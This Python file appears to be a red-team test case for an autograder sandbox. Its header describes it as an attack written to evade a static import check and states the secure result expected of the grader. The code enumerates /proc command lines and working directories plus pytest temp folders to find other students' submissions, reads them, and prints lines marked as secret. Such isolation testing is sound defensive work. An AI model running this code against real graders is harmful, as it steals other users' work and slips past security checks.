# ATTACK (machine, runs past the static check): read_classmates without `import os`. Finds the submissions
# folder from every visible command line (the grader's arguments, resolved against /proc/<pid>/cwd, and
# the folders above any absolute path there) and from the harness's folders under pytest's temporary
# folder, then reads every .py/.ipynb there and prints the lines that look secret.
# A secure grader: the sandbox shows no other submission; nothing of them appears in the --out folder.
import pathlib

P = pathlib.Path


def _procs():
    found = []
    for d in P("/proc").iterdir():
        if not d.name.isdigit():
            continue
        try:
            argv = [x.decode("utf-8", "replace") for x in (d / "cmdline").read_bytes().split(b"\0") if x]
        except OSError:
            continue
        try:
            cwd = str((d / "cwd").readlink())
        except OSError:
            cwd = "/"
        found.append((int(d.name), argv, cwd))
    return found


def _folders():
    folders = []
    for _, argv, cwd in _procs():
        for a in argv:
            if a.startswith("-") or "/" not in a and not a.endswith((".py", ".ipynb")):
                continue
            p = P(cwd) / a
            for cand in (p, p.parent, p.parent.parent):
                if str(cand) not in ("/", "/usr", "/proc", "/dev", "/tmp") and str(cand) not in folders:
                    folders.append(str(cand))
    for p in P("/tmp").glob("pytest-of-*/pytest-*/*/submissions"):
        folders.append(str(p))
    return folders


def _steal():
    folders = _folders()
    looked, found = [], []
    for d in folders:
        try:
            if not P(d).is_dir():
                continue
            names = sorted(P(d).iterdir())
        except OSError:
            continue
        looked.append(d)
        for p in names:
            if not p.name.endswith((".py", ".ipynb")):
                continue
            try:
                text = p.read_text(errors="replace")[:20000]
            except OSError as exc:
                found.append(f"{p}: {exc}")
                continue
            found += [f"{p.name}: {line.strip()}" for line in text.splitlines() if "SECRET-" in line]
    print(f"ATTACK classmates_pathlib: {len(folders)} candidate folders; listed {looked[:12]}", flush=True)
    for line in found[:10]:
        print("ATTACK classmates_pathlib: " + line[:200], flush=True)
    print(f"ATTACK classmates_pathlib: done, {len(found)} secret lines", flush=True)


try:
    _steal()
except Exception as exc:
    print(f"ATTACK classmates_pathlib: stopped by {type(exc).__name__}: {exc}", flush=True)
